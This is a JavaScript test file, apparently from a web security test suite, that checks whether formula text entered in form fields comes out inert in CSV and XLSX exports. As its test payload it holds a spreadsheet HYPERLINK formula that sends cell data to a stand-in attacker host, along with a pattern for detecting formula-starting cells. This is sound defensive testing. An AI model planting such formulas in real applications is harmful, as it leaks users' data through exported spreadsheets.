// Formulas in every text field: no file that is exported has one that a spreadsheet would run.
import assert from "node:assert/strict";
import { signedIn } from "./stranger.mjs";
import { fillForms, walk } from "./walk.mjs";
import { unzip } from "./zip.mjs";

const FORMULA = `=HYPERLINK("//attacker.example/"&A1)`;
const SHOWN = "HYPERLINK(";
// What spreadsheets begin a formula with, unless all of the cell is a number.
const RUNS = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?\d+(\.\d+)?$/;
const MOST_FILES = 24;

// The cells of a CSV.
export function cellsOf(text) {
  const cells = text.replace(/^\ufeff/, "").matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
  return [...cells].map(([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain);
}

function readCsv(address, bytes) {
  const text = bytes.toString("utf8");
  const running = cellsOf(text).filter((cell) => RUNS.test(cell) && !NUMBER.test(cell));
  assert.deepEqual(running, [], `${address} has cells that run`);
  return text.includes(SHOWN);
}

// Every sheet of a workbook, also of those inside an archive.
function readArchive(address, bytes) {
  let shown = false;
  for (const { name, content } of unzip(bytes)) {
    if (name.endsWith(".xlsx")) shown = readArchive(`${address}/${name}`, content) || shown;
    if (!/^xl\/.*\.xml$/.test(name)) continue;
    const text = content.toString("utf8");
    const formulas = [...text.matchAll(/<f\b[^>]*>([^<]*)/g)].map(([, formula]) => formula);
    assert.deepEqual(formulas.filter((formula) => formula.includes(SHOWN)), [], `${address} runs it in ${name}`);
    shown ||= text.includes(SHOWN);
  }
  return shown;
}

async function readExport(stranger, address) {
  const { status, headers, bytes } = await stranger.get(address);
  if (status !== 200) return false;
  if (/csv/.test(headers["content-type"])) return readCsv(address, bytes);
  return bytes.subarray(0, 2).toString() === "PK" ? readArchive(address, bytes) : false;
}

async function writeFormulas(place, { reader }) {
  const admin = await signedIn(place, place.labels[0]);
  const { taken } = await fillForms(admin, reader, FORMULA, async () => {});
  await place.plant?.(FORMULA);
  const { files } = await walk(admin, reader, async () => {});
  const exports = [...files.filter((file) => /\.(csv|xlsx|zip)(\?|$)/.test(file)), ...(place.exports ?? [])].slice(0, MOST_FILES);
  const showing = [];
  for (const address of exports) if (await readExport(admin, address)) showing.push(address);
  assert.ok(showing.length > 0, `none of ${exports.length} files shows the formula: nothing was shown`);
  return `${taken} fields took it; ${showing.length} of ${exports.length} files show it as text`;
}

export const formulas = [{ name: "a formula in any field is text in every export", perform: writeFormulas }];
